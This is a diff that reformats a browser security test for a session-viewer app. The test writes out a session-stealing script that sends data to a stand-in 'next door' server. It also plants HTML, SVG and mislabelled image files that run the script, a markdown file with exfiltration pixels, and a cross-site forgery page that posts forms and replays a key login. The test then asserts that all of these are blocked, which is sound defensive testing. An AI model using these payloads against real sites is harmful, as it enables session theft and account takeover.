@@ -17,8 +17,10 @@ from sessionkit import browser_marks, launch, serve
 pytestmark = browser_marks()
 
 # What a planted file would do if its script ran: read the sessions and send them next door.
-STEAL = ("fetch('/api/sessions').then(r => r.text()).then(t => fetch('{next}/stolen?' + t.length, {{mode: 'no-cors'}}));"
-         "fetch('{next}/ran', {{mode: 'no-cors'}});")
+STEAL = (
+    "fetch('/api/sessions').then(r => r.text()).then(t => fetch('{next}/stolen?' + t.length, {{mode: 'no-cors'}}));"
+    "fetch('{next}/ran', {{mode: 'no-cors'}});"
+)
 
 
 class NextDoor:
@@ -65,8 +67,10 @@ def planted(env, next_door):
     (folder / "page.html").write_text(f"<!doctype html><title>t</title><script>{script}</script>")
     (folder / "image.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>')
     (folder / "chart.png").write_text(f"<!doctype html><script>{script}</script>")  # not what its name says
-    (folder / "report.md").write_text(f"# Planted\n\n![pixel]({next_door.url}/pixel.png) [out]({next_door.url}/out)\n\n"
-                                      f"<img src=\"{next_door.url}/img.png\">\n")
+    (folder / "report.md").write_text(
+        f"# Planted\n\n![pixel]({next_door.url}/pixel.png) [out]({next_door.url}/out)\n\n"
+        f'<img src="{next_door.url}/img.png">\n'
+    )
     yield folder
     shutil.rmtree(folder)
 
@@ -87,10 +91,14 @@ def test_planted_files_and_a_page_next_door_cannot_act(env, store, planted, next
     key = list_sessions(store, limit=1).items[0].key
     secret = create_key(store, "browser").secret
     # The control: Chromium runs an SVG's script when nothing stops it.
-    next_door.pages["/control.svg"] = ("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg"><script>'
-                                       "fetch('/control-ran')</script></svg>")
+    next_door.pages["/control.svg"] = (
+        "image/svg+xml",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('/control-ran')</script></svg>",
+    )
     change = f'{{"sessions": ["{key}"], "status": "golden", "x": "'
-    next_door.pages["/attack.html"] = ("text/html", f"""<!doctype html>
+    next_door.pages["/attack.html"] = (
+        "text/html",
+        f"""<!doctype html>
 <iframe id="framed" src="{base}/runs"></iframe>
 <iframe name="sink1"></iframe><iframe name="sink2"></iframe>
 <form id="labels" method="post" action="{base}/api/labels" enctype="text/plain" target="sink1">
@@ -101,7 +109,8 @@ def test_planted_files_and_a_page_next_door_cannot_act(env, store, planted, next
   document.getElementById("another").submit();
   fetch("{base}/login/key", {{method: "POST", mode: "no-cors", credentials: "include",
         headers: {{"Content-Type": "text/plain"}}, body: JSON.stringify({{key: "{secret}"}})}});
-</script>""")
+</script>""",
+    )
     answers: list[tuple[str, str, int]] = []
     refused_own: list[str] = []  # what the policy refused on the viewer's own pages
     with sync_playwright() as p:
@@ -156,7 +165,13 @@ def test_planted_files_and_a_page_next_door_cannot_act(env, store, planted, next
             browser.close()
     assert not {"/stolen", "/ran", "/pixel.png", "/img.png", "/out"} & set(next_door.asked), next_door.asked
     assert not [a for a in answers if a[1].startswith(base + "/api/sessions")], "a planted script reached the API"
-    posts = sorted({(url.removeprefix(base), status) for method, url, status in answers if method == "POST" and url.startswith(base)})
+    posts = sorted(
+        {
+            (url.removeprefix(base), status)
+            for method, url, status in answers
+            if method == "POST" and url.startswith(base)
+        }
+    )
     # Next door: every change refused; the second browser: its key login and its log out went through.
     assert posts == [("/api/labels", 403), ("/login/another", 403), ("/login/key", 200), ("/logout", 200)], posts
     assert get_label(store, key).eval_status == "needs_review"
